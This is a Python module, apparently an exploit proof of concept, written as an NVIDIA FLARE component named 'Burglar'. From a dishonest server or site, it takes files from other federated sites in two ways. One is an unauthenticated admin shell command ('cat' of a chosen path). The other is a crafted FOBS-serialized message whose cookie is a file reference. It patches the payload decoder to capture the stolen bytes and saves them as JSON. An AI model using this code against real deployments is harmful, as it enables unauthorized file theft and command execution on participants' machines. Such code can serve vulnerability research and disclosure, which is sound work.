"""A part of a dishonest server, or of a dishonest site, which has FLARE at another site hand over its files.

By two ways that FLARE offers and asks nobody about: the command of an administrator that is sent without the
header that demands an authorization, and a message whose cookie, which comes back with the answer, is a file.
"""

from __future__ import annotations

import json
import struct
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import msgpack
from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import ReservedHeaderKey
from nvflare.fuel.f3.cellnet import core_cell
from nvflare.fuel.f3.cellnet.defs import Encoding, MessageHeaderKey, ReturnCode
from nvflare.fuel.f3.message import Message as CellMessage
from nvflare.private.admin_defs import Message
from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message

# Nobody is there yet, or has not begun to listen.
_WAIT = {
    ReturnCode.TARGET_UNREACHABLE,
    ReturnCode.TIMEOUT,
    ReturnCode.COMM_ERROR,
    ReturnCode.UNAUTHENTICATED,
    ReturnCode.PROCESS_EXCEPTION,
}
# A site that is there and does not answer is asked so often.
_ATTEMPTS = 3
_SECTION = struct.Struct(">BBQ")
_MAIN = 100


class Burglar(FLComponent):
    """Asks several sites for files of theirs as soon as FLARE runs, and writes down what it got.

    Parameters
    ----------
    wanted : dict
        Paths of files by the name of the site.
    out : str
        For what was obtained, as JSON: by site, file and way the words of the answer, or the bytes in
        hexadecimal.
    """

    def __init__(self, wanted: dict[str, list[str]], out: str) -> None:
        super().__init__()
        self._wanted, self._out = wanted, Path(out)
        self._received: dict[str, bytes] = {}

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        """Begin when FLARE has."""
        if event_type == EventType.SYSTEM_START:
            self._keep_payloads()
            threading.Thread(target=self._try, args=(fl_ctx.get_engine(),), daemon=True).start()

    def _keep_payloads(self) -> None:
        """Keep what comes back as it came: FLARE would write files of it into a folder of everybody."""
        plain = core_cell.decode_payload

        def decode(message, *words, **more):
            topic = str(message.get_header(MessageHeaderKey.TOPIC))
            if topic not in self._received:
                plain(message, *words, **more)
                return
            pieces = message.payload if isinstance(message.payload, list) else [message.payload or b""]
            self._received[topic] += b"".join(bytes(one) for one in pieces)
            message.remove_header(MessageHeaderKey.PAYLOAD_ENCODING)

        core_cell.decode_payload = decode

    def _try(self, engine) -> None:
        ways = {"command": self._by_command, "cookie": self._by_cookie}
        tasks = [(site, file, way) for site, files in self._wanted.items() for file in files for way in ways]
        with ThreadPoolExecutor(len(tasks)) as together:
            said = together.map(lambda one: _often(ways[one[2]], engine, *one[:2]), tasks)
            loot: dict = {}
            for (site, file, way), words in zip(tasks, said, strict=True):
                loot.setdefault(site, {}).setdefault(file, {})[way] = words
        self._out.with_suffix(".part").write_text(json.dumps(loot))
        self._out.with_suffix(".part").rename(self._out)

    def _by_command(self, engine, site: str, file: str) -> tuple[str, str]:
        payload = Message(SysCommandTopic.SHELL, f"cat {file}")
        reply = _send(engine, CellChannel.CLIENT_MAIN, "admin", site, new_cell_message({}, payload))
        return _code(reply), str(getattr(reply.payload, "body", reply.payload))

    def _by_cookie(self, engine, site: str, file: str) -> tuple[str, str]:
        message = CellMessage({MessageHeaderKey.PAYLOAD_ENCODING: Encoding.FOBS}, asking_for(file))
        topic = f"burglary-{uuid.uuid4()}"
        self._received[topic] = b""
        reply = _send(engine, CellChannel.AUX_COMMUNICATION, topic, site, message)
        return _code(reply), self._received[topic].hex()


def _often(way, engine, site: str, file: str) -> str:
    """Return what came back: from whoever is there, within a few attempts."""
    code, said, silences = "", "", 0
    while silences < _ATTEMPTS:
        if engine.get_cell() is not None:
            code, said = way(engine, site, file)
            silences += code == ReturnCode.TIMEOUT
            if code not in _WAIT:
                break
        time.sleep(0.2)
    return f"{code}: {said}"


def _send(engine, channel: str, topic: str, site: str, message: CellMessage) -> CellMessage:
    return engine.get_cell().core_cell.send_request(channel, topic, site, message, 5.0)


def _code(reply: CellMessage) -> str:
    return str(reply.get_header(MessageHeaderKey.RETURN_CODE) or ReturnCode.OK)


def asking_for(file: str) -> bytes:
    """Return a message, as FLARE packs it, whose cookie is a file of whoever receives it."""
    value = {"datum_id": str(uuid.uuid4()), "datum_type": 3, "dot": 0, "value": file}
    cookie = _packed("nvflare.fuel.utils.fobs.datum.Datum", {"data": value}, "DataClassDecomposer")
    headers = {ReservedHeaderKey.HEADERS: {ReservedHeaderKey.COOKIE_JAR: {"c": cookie}}}
    data = msgpack.packb(_packed("nvflare.apis.shareable.Shareable", headers, "DictDecomposer"))
    return _SECTION.pack(_MAIN, 0, len(data)) + data


def _packed(kind: str, data: object, by: str) -> dict[str, object]:
    decomposer = f"nvflare.fuel.utils.fobs.decomposer.{by}"
    return {"__fobs_type__": kind, "__fobs_dc__": decomposer, "__fobs_data__": data}
